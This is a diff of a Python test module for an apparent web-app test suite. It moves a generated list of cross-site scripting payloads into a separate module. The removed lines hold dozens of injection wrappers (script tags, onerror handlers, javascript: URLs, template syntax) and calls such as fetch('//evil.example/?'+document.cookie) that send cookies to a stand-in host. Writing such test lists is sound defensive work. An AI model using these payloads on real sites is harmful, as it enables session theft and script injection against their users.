@@ -5,7 +5,6 @@ from __future__ import annotations
 from collections.abc import Iterator
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
-from itertools import product
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 from urllib.parse import quote
@@ -19,30 +18,12 @@ from ingest.archive.scope import EVERYTHING
 from ingest.records import Call, Note, Participant, Turn
 from ingest.wiring import open_home
 from tests.api.browsing import Watched, site, watched
+from tests.api.hostile import HOSTILE, RUNS
 from tests.api.served import DANA, MARTA, no_weights, put_interaction
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
 
-RUNS = (
-    "hit()", "hit`1`", "window.hit()", "top.hit()", "alert(1)", "import('//evil.example/x')", "fetch('//evil.example/?'+document.cookie)",
-    "location='//evil.example'", "eval('hit()')", "setTimeout('hit()')",
-)  # fmt: skip
-WRAPS = (
-    "<script>{}</script>", "<img src=x onerror={}>", '<img src="x" onerror="{}">', "<svg onload={}>", "<svg><script>{}</script></svg>",
-    "<svg><animate onbegin={} attributeName=x dur=1s>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=\"javascript:{}\">",
-    "<a href=\"javascript:{}\">x</a>", "[x](javascript:{})", "![x](https://evil.example/p.png?{})", "<details open ontoggle={}>",
-    "<body onload={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>", "<math><mtext><script>{}</script></mtext></math>",
-    "<form><button formaction=\"javascript:{}\">x", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
-    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<link rel=stylesheet href=\"https://evil.example/x.css?{}\">",
-    "<style>@import 'https://evil.example/{}';</style>", "<base href=\"https://evil.example/{}\">",
-    "<template><img src=x onerror={}></template>",
-    "\"><img src=x onerror={}>", "'-{}-'", "</textarea><script>{}</script>", "</title><script>{}</script>", "</script><script>{}</script>",
-    "<!--><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
-    "${{{}}}", "{{{{{}}}}}", "<%= {} %>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;img src=x onerror={}&#62;", "\\u003cscript\\u003e{}",
-    "**bold** __x__ `{}` <b>b</b>", "\u202e{}\u202c",
-)  # fmt: skip
-HOSTILE = [wrap.format(run) for wrap, run in product(WRAPS, RUNS)]
 AT_ONCE = 60
 """Of them in one call, mail or list."""
 
